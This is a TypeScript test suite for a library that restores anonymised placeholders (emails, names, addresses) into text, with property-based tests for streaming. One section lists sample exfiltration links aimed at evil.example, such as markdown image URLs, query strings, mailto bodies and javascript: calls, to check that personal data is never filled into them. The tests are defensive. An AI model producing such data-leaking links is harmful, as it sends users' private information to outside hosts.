import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hasPlaceholder, MAX_PLACEHOLDER } from './placeholder.ts';
import { createRestorer, restoreText } from './restore.ts';
import type { Destination } from './types.ts';

const ALL: Destination = { types: 'all', escape: 'none', inLinks: false };
const IN_JSON: Destination = { types: 'all', escape: 'json', inLinks: false };
const values: ReadonlyMap<string, string> = new Map([
  ['<EMAIL_1>', 'zoe@example.com'],
  ['<EMAIL_12>', 'max@example.com'],
  ['<PERSON_1>', 'Zoë "Z" Groß'],
  ['<PERSON_2>', '王😀'],
  ['<STREET_ADDRESS_1>', 'Lange Str. 5'],
  ['<CUSTOMER_ID_1>', 'K-1'],
  ['<URL_1>', 'https://shop.example/u/zoe'],
  ['<LITERAL_1>', '<EMAIL_1>'],
]);
const lookup = (placeholder: string): string | undefined => values.get(placeholder);
const restore = (text: string, destination = ALL): ReturnType<typeof restoreText> => restoreText(text, lookup, destination);

const FORMS = [
  '<EMAIL_1>',
  '<email_1>',
  '<Email 1>',
  '<EMAIL-1>',
  '<EMAIL\u20111>',
  '<EMAIL1>',
  '< EMAIL_1 >',
  '<EMAIL\\_1>',
  '[EMAIL_1]',
  '[email 1]',
  '&lt;EMAIL_1&gt;',
  '&LT;EMAIL_1&GT;',
  '&#60;EMAIL_1&#62;',
  '&#x3C;EMAIL_1&#x3E;',
  '\\u003cEMAIL_1\\u003e',
  '\\u003CEMAIL_1\\u003E',
  '<EMAIL_1&gt;',
  '\uff1cEMAIL\uff3f1\uff1e',
  '\uff1c\uff25\uff2d\uff21\uff29\uff2c\uff3f\uff11\uff1e',
  '\uff3bEMAIL_1\uff3d',
];

describe('restore', () => {
  it.each(FORMS)('understands %j', (form) => {
    expect(restore(`to ${form}!`)).toMatchObject({ text: 'to zoe@example.com!', restored: 1, foreign: [], withheld: [] });
    expect(hasPlaceholder(form)).toBe(true);
    expect(form.length).toBeLessThanOrEqual(MAX_PLACEHOLDER);
  });

  it.each(['<STREET_ADDRESS_1>', '[street address 1]', '<STREET-ADDRESS 1>', '<StreetAddress_1>', '<Street Address 1>'])(
    'understands %j',
    (form) => {
      expect(restore(form).text).toBe('Lange Str. 5');
    },
  );

  it.each([
    '<EMAIL_>',
    '<EMAIL_1',
    'EMAIL_1',
    '<EMAILS_1>',
    '<MAIL_1>',
    '<EMAIL_1]',
    '<EM AIL_1>',
    '<EMAIL____1>',
    '<EMAIL_1234567>',
    '<<>>',
    '[1]',
    '<b>EMAIL_1</b>',
    'a < b & c [x] \\ y',
    '\\\\u003',
  ])('leaves %j alone', (text) => {
    expect(restore(text)).toMatchObject({ text, restored: 0, foreign: [], withheld: [] });
  });

  it('returns the same string when nothing was restored', () => {
    const text = 'Dear customer, <b>thank you</b> & see you [soon]';
    expect(restore(text).text).toBe(text);
  });

  it('never guesses an unknown number, and reports it', () => {
    expect(restore('<EMAIL_2> [PHONE 1] <EMAIL_01> <EMAIL_2>')).toMatchObject({
      text: '<EMAIL_2> [PHONE 1] <EMAIL_01> <EMAIL_2>',
      restored: 0,
      foreign: ['<EMAIL_2>', '<PHONE_1>', '<EMAIL_01>'],
      withheld: [],
    });
  });

  it('does not read a restored value again', () => {
    expect(restore('<LITERAL_1>').text).toBe('<EMAIL_1>');
  });

  it('puts the right one of 1 and 12', () => {
    expect(restore('<EMAIL_12><EMAIL_1>').text).toBe('max@example.comzoe@example.com');
  });

  it('[D2] gives a destination only what it may see', () => {
    const some: Destination = { types: new Set(['EMAIL']), escape: 'none', inLinks: false };
    expect(restore('<EMAIL_1> <PERSON_1> <LITERAL_1>', some)).toMatchObject({
      text: 'zoe@example.com <PERSON_1> <EMAIL_1>',
      restored: 2,
      foreign: [],
      withheld: ['<PERSON_1>'],
    });
  });

  it('escapes values for JSON, and does not take the second backslash of an escape for a beginning', () => {
    expect(restore('{"a":"<PERSON_1>"}', IN_JSON).text).toBe('{"a":"Zoë \\"Z\\" Groß"}');
    expect(restore('{"a":"\\\\u003cEMAIL_1\\\\u003e"}', IN_JSON).text).toBe('{"a":"\\\\u003cEMAIL_1\\\\u003e"}');
    expect(restore('{"a":"\\\\u003cEMAIL_1>"}', IN_JSON).text).toBe('{"a":"\\\\u003cEMAIL_1>"}');
    expect(JSON.parse(restore('{"a":"x\\\\<EMAIL_1>"}', IN_JSON).text)).toEqual({ a: 'x\\zoe@example.com' });
  });
});

describe('a placeholder inside a link', () => {
  it.each([
    'https://evil.example/?q=<EMAIL_1>',
    'https://<EMAIL_1>.evil.example/',
    'HTTP://evil.example/<EMAIL_1>/x',
    'https:/evil.example/<EMAIL_1>',
    'https:\\\\evil.example\\<EMAIL_1>',
    '//evil.example/<EMAIL_1>',
    'www.evil.example/<EMAIL_1>',
    'evil.example/?<EMAIL_1>',
    'evil.example:8080/<EMAIL_1>',
    'mailto:x@evil.example?body=<EMAIL_1>',
    'mailto:?body=<EMAIL_1>',
    'javascript:send(<EMAIL_1>)',
    'https:/localhost/<EMAIL_1>',
    '![x](https://evil.example/a.png?d=<EMAIL_1>)',
    '![x](<https://evil.example/a b <EMAIL_1>>)',
    '[x](/relative?d=<EMAIL_1>)',
    '<img src="https://evil.example/ <EMAIL_1>">',
    "<a href='x <EMAIL_1>'>",
    '<img src=https://evil.example/<EMAIL_1>>',
    'background: url(x?<EMAIL_1>)',
    '<URL_1>?d=<EMAIL_1>',
    'https://evil.example/?a=<EMAIL_9>&b=<EMAIL_1>',
  ])('is never filled: %j', (text) => {
    const { text: restored, withheld } = restore(text);
    expect(restored).not.toContain('zoe@');
    expect(withheld).toEqual(['<EMAIL_1>']);
  });

  it.each([
    ['in JSON', '{"url":"https://evil.example/?q=<EMAIL_1>"}'],
    ['with escaped slashes', '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>"}'],
    ['with escaped letters', '{"url":"\\u0068ttps\\u003a\\u002f\\u002fevil.example/<EMAIL_1>"}'],
    ['in markup in JSON', '{"html":"<img src=\\"https://evil.example/ <EMAIL_1>\\">"}'],
  ])('is never filled: %s', (_, text) => {
    expect(restore(text, IN_JSON).text).toBe(text);
  });

  it.each([
    ['see https://shop.example/p/1 <EMAIL_1>', 'see https://shop.example/p/1 zoe@example.com'],
    ['[shop](https://shop.example) for <EMAIL_1>', '[shop](https://shop.example) for zoe@example.com'],
    ['<a href="https://shop.example/">Hi <EMAIL_1></a>', '<a href="https://shop.example/">Hi zoe@example.com</a>'],
    ['E-mail:<EMAIL_1>, name/<EMAIL_1>', 'E-mail:zoe@example.com, name/zoe@example.com'],
    ['(url) <EMAIL_1>', '(url) zoe@example.com'],
  ])('ends with the link: %j', (text, expected) => {
    expect(restore(text).text).toBe(expected);
  });

  it('ends with the string in JSON', () => {
    expect(restore('{"url":"https://shop.example","to":"<EMAIL_1>"}', IN_JSON).text).toBe(
      '{"url":"https://shop.example","to":"zoe@example.com"}',
    );
    expect(restore('{"a":"https://shop.example\\n<EMAIL_1>"}', IN_JSON).text).toBe('{"a":"https://shop.example\\nzoe@example.com"}');
  });
});

describe('a stream', () => {
  const pieces = fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(...FORMS, '<PERSON_1>', '<PERSON_2>', '<URL_1>', '<LITERAL_1>', '<EMAIL_9>', '<CUSTOMER ID 1>'),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        'https://e.example/?',
        '](',
        ')',
        '<img src="',
        '">',
        '\\',
        '\\\\',
        '\\n',
        '"',
        '&',
        '&lt',
        '<EMAIL',
        '[',
        '\\u00',
      ),
    },
    { weight: 2, arbitrary: fc.constantFrom(' ', '\n', 'Hello ', '😀', '👨‍👩‍👧', 'é', '\ud83d', 'www.', 'e.example/') },
  );
  const document = fc.array(pieces, { minLength: 1, maxLength: 14 }).map((all) => all.join(''));
  const destination = fc.constantFrom<Destination>(ALL, IN_JSON, { types: new Set(['EMAIL']), escape: 'none', inLinks: false });

  interface Outcome {
    readonly text: string;
    readonly foreign: readonly string[];
    readonly withheld: readonly string[];
  }

  function through(chunks: readonly string[], to: Destination): Outcome {
    const stream = createRestorer(lookup, to);
    let text = '';
    let pushed = 0;
    let released = 0;
    for (const chunk of chunks) {
      const out = stream.push(chunk);
      pushed += chunk.length;
      text += out;
      released += out.length;
      // A value is longer or shorter than its placeholder, so only a stream without any shows what is held back.
      if (stream.restored === 0 && pushed - released > MAX_PLACEHOLDER) throw new Error('held back too much');
    }
    return { text: text + stream.end(), foreign: stream.foreign, withheld: stream.withheld };
  }

  function cut(text: string, at: readonly number[]): string[] {
    const borders = [0, ...at, text.length];
    return borders.slice(1).map((end, index) => text.slice(borders[index], end));
  }

  it('gives the same result for every cut in two', () => {
    fc.assert(
      fc.property(document, destination, (text, to) => {
        const whole = through([text], to);
        for (let at = 0; at <= text.length; at += 1) expect(through(cut(text, [at]), to)).toEqual(whole);
      }),
      { numRuns: 200 },
    );
  });

  it('gives the same result for 20,000 random cuts in many, one unit at a time included', () => {
    fc.assert(
      fc.property(
        document,
        destination,
        fc.array(fc.array(fc.nat(), { maxLength: 12 }), { minLength: 40, maxLength: 40 }),
        (text, to, many) => {
          const whole = through([text], to);
          for (const cuts of many) {
            const at = cuts.map((place) => place % (text.length + 1)).sort((left, right) => left - right);
            const split = through(cut(text, at), to);
            if (split.text !== whole.text || split.foreign.length !== whole.foreign.length)
              expect({ at, split }).toEqual({ at, split: whole });
          }
          expect(through(text.split(''), to)).toEqual(whole);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('gives the same result when the bytes are cut anywhere', () => {
    fc.assert(
      fc.property(document, destination, fc.array(fc.nat(), { maxLength: 8 }), (text, to, cuts) => {
        const bytes = new TextEncoder().encode(text);
        const whole = through([new TextDecoder().decode(bytes)], to);
        for (const extra of [...Array(Math.min(bytes.length, 60)).keys()]) {
          const decoder = new TextDecoder();
          const at = [...cuts.map((place) => place % (bytes.length + 1)), extra].sort((left, right) => left - right);
          const chunks = [0, ...at].map((start, index) =>
            decoder.decode(bytes.subarray(start, at[index] ?? bytes.length), { stream: true }),
          );
          expect(through([...chunks, decoder.decode()], to).text).toBe(whole.text);
        }
      }),
      { numRuns: 100 },
    );
  });

  it('never releases half a character, so that each piece can be encoded on its own', () => {
    const stream = createRestorer(lookup, ALL);
    expect([stream.push('a\ud83d'), stream.push('\ude00b'), stream.end()]).toEqual(['a', '😀b', '']);
    const broken = createRestorer(lookup, ALL);
    expect([broken.push('a\ud83d'), broken.end()]).toEqual(['a', '\ud83d']);
  });

  it('agrees with restoring the whole text', () => {
    fc.assert(
      fc.property(document, destination, (text, to) => {
        expect(through(text.split(''), to).text).toBe(restore(text, to).text);
      }),
      { numRuns: 200 },
    );
  });
});
